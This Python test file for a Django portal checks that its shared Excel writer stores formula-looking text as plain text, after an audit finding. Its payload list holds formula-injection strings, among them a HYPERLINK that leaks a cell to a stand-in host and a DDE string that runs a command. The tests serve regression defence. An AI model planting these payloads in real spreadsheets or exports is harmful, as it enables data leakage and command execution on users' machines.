"""Finding 4 of issue 14: a public opinion ``=HYPERLINK("http://…",…)`` became a live formula in the office's
Excel export. Every export writes through ``fazhi.io.excel``; text is stored as text."""

from __future__ import annotations

import ast
import io
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from fazhi.io.excel import Column, build_workbook
from fazhi.portal import services
from fazhi.portal.models import OpinionStatus

ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1,1)", "\t=1+1", "＝1+1"]


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_text_that_looks_like_a_formula_stays_text_in_every_sheet():
    content = build_workbook("测试", [Column("a", "内容")], [{"a": text} for text in ATTACKS],
                             instructions=ATTACKS[:1], extra_sheets={"明细": [[text] for text in ATTACKS]})
    cells = [c for c in _cells(content) if c.value in ATTACKS]
    assert len(cells) == len(ATTACKS) * 2 + 1
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        if cell.value.lstrip("\t") != cell.value or cell.value[0] in "=+-@＝":
            assert cell.quotePrefix, cell.coordinate  # Excel keeps it text even after the cell is edited


def test_numbers_stay_numbers():
    content = build_workbook("测试", [Column("a", "分值")], [{"a": 9.5}, {"a": -3}])
    values = [c.value for c in _cells(content) if isinstance(c.value, int | float)]
    assert values == [9.5, -3]


@pytest.mark.django_db
def test_the_office_export_of_public_opinions_holds_no_formula(client_for, people, units):
    opinion = services.opinion_submit(text=ATTACKS[0], about_unit=units["C1"], ip="192.0.2.7")
    services.opinion_moderate(user=people["office"], opinion=opinion, status=OpinionStatus.APPROVED)
    response = client_for(people["office"]).get(reverse("portal:satisfaction_export"))
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    hostile = [c for c in _cells(content) if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert hostile and all(c.data_type == "s" for c in hostile)


def test_no_module_writes_a_workbook_except_the_shared_writer():
    """Every export goes through ``fazhi.io.excel.build_workbook`` (which escapes): no other module builds one."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path == root / "io" / "excel.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if (isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl")
                    and any(alias.name in {"Workbook", "load_workbook"} for alias in node.names)):
                offenders.append(str(path.relative_to(root)))
            if isinstance(node, ast.Import) and any(a.name.startswith("openpyxl") for a in node.names):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
